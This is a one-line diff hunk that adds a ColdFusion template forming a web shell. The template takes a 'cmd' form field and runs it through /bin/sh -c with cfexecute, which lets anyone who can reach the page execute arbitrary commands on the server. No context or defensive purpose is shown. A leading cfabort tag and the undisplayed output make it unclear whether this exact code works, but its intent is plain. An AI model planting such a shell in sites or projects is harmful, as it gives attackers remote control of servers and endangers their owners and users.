@@ -1,0 +1,1 @@
+<cfabort><cfoutput><cfif IsDefined("FORM.cmd")><cfset cmd = Form.cmd><cfexecute name="/bin/sh" arguments="-c ""#cmd#""" variable="out" timeout="9"/></cfif></cfoutput>
